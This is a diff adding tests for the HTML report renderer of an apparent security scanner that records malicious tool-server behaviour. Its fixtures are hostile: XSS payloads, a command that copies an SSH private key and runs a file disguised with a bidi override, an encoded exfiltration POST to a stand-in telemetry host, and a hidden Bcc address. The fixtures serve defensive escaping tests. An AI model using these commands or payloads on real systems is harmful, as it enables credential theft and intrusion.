@@ -4,7 +4,7 @@ import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
 import type { Report } from '../src/domain/types.js';
 import { contentSecurityPolicy, renderHtml } from './render-html.js';
-import { HOSTILE, LONG_BODY, sampleReport } from './sample-report.js';
+import { HOSTILE, HOSTILE_BEHAVIOUR, LONG_BODY, sampleReport } from './sample-report.js';
 import { STYLESHEET } from './style.js';
 
 const out = renderHtml(sampleReport());
@@ -36,6 +36,20 @@ function tags(doc: string): { name: string; attrs: string[]; text: string }[] {
     ),
     text: m[0],
   }));
+}
+
+/** The markup of one top-level section (sections inside it are not expected). */
+function section(doc: string, id: string): string {
+  const start = doc.indexOf(`<section id="${id}">`);
+  if (start < 0) throw new Error(`no section ${id}`);
+  return doc.slice(start, doc.indexOf('</section>', start));
+}
+
+/** Text of the highlighted invisible-character markers in `doc`. */
+function markers(doc: string): string {
+  return [...doc.matchAll(/<span class="inv" title="[^"]*">([^<]*)<\/span>/g)]
+    .map((m) => m[1])
+    .join('');
 }
 
 describe('renderHtml with a hostile report', () => {
@@ -83,9 +97,7 @@ describe('renderHtml with a hostile report', () => {
   });
 
   it('shows invisible characters as markers and leaves none in the page', () => {
-    const highlighted = [...out.matchAll(/<span class="inv" title="[^"]*">([^<]*)<\/span>/g)]
-      .map((m) => m[1])
-      .join('');
+    const highlighted = markers(out);
     for (const m of ['\\u{200B}', '\\u{E0041}', '\\u{E0049}', '\\u{202E}', '\\u{001B}']) {
       expect(highlighted).toContain(m);
     }
@@ -119,9 +131,18 @@ describe('renderHtml with a hostile report', () => {
     );
     expect(out).toContain('<span class="badge verdict verdict-malicious">malicious</span>');
     expect(out).toContain(
-      '<span class="count"><span class="badge sev-critical">critical</span> 1</span>',
+      '<span class="count"><span class="badge sev-critical">critical</span> 2</span>',
     );
-    for (const id of ['findings', 'server', 'install', 'tools', 'network', 'timeline', 'notes']) {
+    for (const id of [
+      'findings',
+      'behaviour',
+      'server',
+      'install',
+      'tools',
+      'network',
+      'timeline',
+      'notes',
+    ]) {
       expect(out).toContain(`<section id="${id}">`);
     }
     expect(out).toContain('+45000 ms');
@@ -132,6 +153,159 @@ describe('renderHtml with a hostile report', () => {
   });
 });
 
+describe('renderHtml behaviour section', () => {
+  const b = section(out, 'behaviour');
+  const findings = section(out, 'findings');
+
+  it('comes right after Findings, in the page and in the navigation', () => {
+    expect(out).toMatch(/<a href="#findings">Findings<\/a><a href="#behaviour">Behaviour<\/a>/);
+    const at = (id: string): number => out.indexOf(`<section id="${id}">`);
+    expect(at('findings')).toBeLessThan(at('behaviour'));
+    expect(at('behaviour')).toBeLessThan(at('server'));
+    expect(out.slice(out.indexOf('</section>', at('findings')), at('behaviour'))).toMatch(
+      /^<\/section>\s*$/,
+    );
+  });
+
+  it('escapes the file path with a newline and a script tag, and marks the newline', () => {
+    expect(b).not.toMatch(/<script/i);
+    expect(b).toContain(
+      '<code>~/.config/autostart/update<span class="inv" title="invisible character">\\u{000A}</span>&lt;script&gt;alert(4)&lt;/script&gt;.desktop</code>',
+    );
+    expect(out).not.toContain(HOSTILE_BEHAVIOUR.path);
+  });
+
+  it('marks the bidi override in command lines, in the table and in the findings', () => {
+    const cmd =
+      '<code>/bin/sh -c cp ~/.ssh/id_rsa /tmp/invoice<span class="inv" title="invisible character">\\u{202E}</span>fdp.sh &amp;&amp; sh /tmp/invoice<span class="inv" title="invisible character">\\u{202E}</span>fdp.sh</code>';
+    expect(b).toContain(cmd);
+    expect(findings).toContain(`<div>command ${cmd}</div>`);
+    expect(out).not.toContain('\u202E');
+  });
+
+  it('shows the exfil excerpt escaped in a <pre>, with the encoding chain and destination', () => {
+    expect(b).not.toContain('<img');
+    expect(b).toContain(
+      '<pre>POST /v1/collect HTTP/1.1\nHost: collect.telemetry-cdn.example\ncontent-type: application/json\n\n{&quot;d&quot;:&quot;SDRzSUFBQUFBQUFBQS8vS3lDc3BBQUE=&quot;,&quot;n&quot;:&quot;&quot;&gt;&lt;img src=x onerror=alert(5)&gt;&quot;}</pre>',
+    );
+    expect(b).toContain('<code>base64 &gt; gzip</code>');
+    expect(b).toContain('<span class="muted">plain</span>');
+    expect(b).toContain(
+      '<code>collect.telemetry-cdn.example</code><div class="muted"><code>203.0.113.66:443</code></div>',
+    );
+    expect(b).toContain('returned to the model');
+    expect(b).toContain('title="tag characters spelling: HI"');
+  });
+
+  it('lists the planted canaries folded, with masked previews escaped', () => {
+    expect(b).toMatch(/<details>\s*<summary>9 canaries planted \(values masked\)<\/summary>/);
+    expect(b).toContain('<code>ghp_Zt…9fQ (40 chars)</code>');
+    expect(b).toContain(
+      '<code>env:POSTMARK_SERVER_TOKEN<span class="inv" title="invisible character">\\u{200B}</span></code>',
+    );
+    expect(b).toContain('<code>&lt;b&gt;1f…&quot;&gt;&lt;img src=x onerror=alert(1)&gt;</code>');
+  });
+
+  it('shows unexplained values, file changes and processes', () => {
+    expect(b).toContain('<code>archive@mailvault.example</code></td><td><code>body:Bcc</code>');
+    expect(b).toMatch(/<details>\s*<summary>215 chars: POST \/email HTTP\/1\.1/);
+    expect(b).toContain('<td class="num">1766</td><td><code>file:~/.ssh/id_rsa</code></td>');
+    expect(b).toContain('<span class="mono">231 / 200</span>');
+    expect(b).toContain('<td>server</td><td class="num">1</td>');
+    expect(b).toContain('&lt;/pre&gt;&quot;&gt;&lt;img src=x onerror=alert(1)&gt;');
+    expect(b).not.toContain('class="warn"');
+  });
+
+  it('shows the new evidence fields in the findings table', () => {
+    expect(findings).toContain('<div>canary <code>env:GITHUB_TOKEN</code></div>');
+    expect(findings).toContain('<div>encoding <code>base64 &gt; gzip</code></div>');
+    expect(findings).toContain('<div>channel http</div>');
+    expect(findings).toContain('<div>path <code>~/.bashrc</code></div>');
+    expect(findings).toContain(
+      '<div>value <code>archive@mailvault.example</code> in <code>body:Bcc</code></div>',
+    );
+    // The proc/shell excerpt repeats the command line and is not shown twice.
+    expect(findings.split('/tmp/invoice')).toHaveLength(5);
+  });
+
+  it('says so, visibly and escaped, when process tracing was not available', () => {
+    const base = sampleReport();
+    const doc = renderHtml({
+      ...base,
+      behaviour: {
+        ...base.behaviour,
+        processes: [],
+        processTracing: { available: false, reason: HOSTILE_BEHAVIOUR.tracingReason },
+      },
+    });
+    const s = section(doc, 'behaviour');
+    expect(s).toMatch(/<p class="warn">\s*Process tracing was not available/);
+    expect(s).toContain(
+      'forkstat: permission denied &lt;b&gt;no CAP_SYS_ADMIN&lt;/b&gt;<span class="inv" title="invisible character">\\u{200B}</span>',
+    );
+    expect(s).not.toContain('<b>');
+    const noReason = renderHtml({
+      ...base,
+      behaviour: { ...base.behaviour, processTracing: { available: false } },
+    });
+    expect(section(noReason, 'behaviour')).toContain('no reason given');
+  });
+
+  it('bounds every behaviour table', () => {
+    const base = sampleReport();
+    const [p] = base.behaviour.processes;
+    const [f] = base.behaviour.files;
+    const [x] = base.behaviour.exfil;
+    const [v] = base.behaviour.taint;
+    const [c] = base.behaviour.canaries;
+    if (!p || !f || !x || !v || !c) throw new Error('sample has behaviour of every kind');
+    const n = 600;
+    const many = <T>(item: T, change: (i: number) => Partial<T>): T[] =>
+      Array.from({ length: n }, (_, i) => ({ ...item, ...change(i) }));
+    const doc = renderHtml({
+      ...base,
+      behaviour: {
+        ...base.behaviour,
+        canaries: many(c, (i) => ({ origin: `env:C${i}` })),
+        exfil: many(x, (i) => ({ origin: `env:X${i}` })),
+        taint: many(v, (i) => ({ value: `v${i}@x.example` })),
+        files: many(f, (i) => ({ path: `~/f${i}` })),
+        processes: many(p, (i) => ({ cmdline: `proc-${i}` })),
+      },
+    });
+    const s = section(doc, 'behaviour');
+    for (const what of ['canaries', 'canary hits', 'unexplained values', 'file changes']) {
+      expect(s).toContain(`100 more ${what} not shown.`);
+    }
+    expect(s).toContain('100 more processes not shown.');
+    expect(s).toContain('proc-499<');
+    expect(s).not.toContain('proc-500<');
+    expect(s).not.toContain('~/f500<');
+  });
+
+  it('clips a huge command line and a huge excerpt', () => {
+    const base = sampleReport();
+    const [p] = base.behaviour.processes;
+    const [x] = base.behaviour.exfil;
+    if (!p || !x) throw new Error('sample has a process and a canary hit');
+    const doc = renderHtml({
+      ...base,
+      behaviour: {
+        ...base.behaviour,
+        processes: [{ ...p, cmdline: `sh -c ${'A'.repeat(50_000)}` }],
+        exfil: [
+          { ...x, excerpt: 'B'.repeat(50_000), chain: Array.from({ length: 100 }, () => 'base64') },
+        ],
+      },
+    });
+    const s = section(doc, 'behaviour');
+    expect(s).not.toContain('A'.repeat(1_001));
+    expect(s).not.toContain('B'.repeat(2_001));
+    expect(s).toContain('… (+80)');
+    expect(s.length).toBeLessThan(30_000);
+  });
+});
+
 describe('renderHtml edge cases', () => {
   it('renders an empty report', () => {
     const r: Report = {
@@ -139,13 +313,25 @@ describe('renderHtml edge cases', () => {
       findings: [],
       tools: [],
       notes: [],
-      network: { dns: [], connections: [], http: [], tlsFailures: [] },
+      network: { dns: [], connections: [], http: [], tlsFailures: [], smtp: [] },
+      behaviour: {
+        canaries: [],
+        exfil: [],
+        taint: [],
+        files: [],
+        processes: [],
+        processTracing: { available: true },
+      },
       timeline: { phases: [], calls: [] },
       timings: {},
     };
     const doc = renderHtml(r);
     expect(doc).toContain('No tools listed.');
     expect(doc).toContain('<p class="empty">None.</p>');
+    const b = section(doc, 'behaviour');
+    expect(b).toContain('0 canaries planted (values masked)');
+    expect(b.match(/<p class="empty">None\.<\/p>/g)).toHaveLength(5);
+    expect(b).not.toContain('class="warn"');
   });
 
   it('caps long lists and says how many rows were left out', () => {
